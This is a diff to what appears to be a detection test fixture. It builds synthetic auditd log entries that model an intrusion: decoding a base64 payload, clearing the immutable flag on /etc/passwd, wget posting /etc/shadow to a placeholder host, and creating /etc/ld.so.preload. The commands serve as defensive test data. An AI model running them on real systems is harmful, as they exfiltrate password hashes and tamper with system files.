@@ -93,7 +93,7 @@ def _audit(number: int, program: str, *arguments: str, more: str = "") -> str:
 _TIME = "[10/Oct/2025:13:55:36 +0800]"
 STORIES: dict[str, tuple[str, set[str]]] = {
     "auditd": (
-        _audit(1, "/usr/bin/base64", "base64", "-d", "/tmp/x")
+        _audit(1, "/usr/bin/base64", "base64", "-d", "payload.b64")
         + _audit(2, "/usr/bin/chattr", "chattr", "-i", "/etc/passwd")
         + _audit(3, "/usr/bin/wget", "wget", "--post-file=/etc/shadow", "http://x")
         + _audit(4, "/bin/x", "x", more='type=PATH {head} item=1 name="/etc/ld.so.preload" nametype=CREATE'),
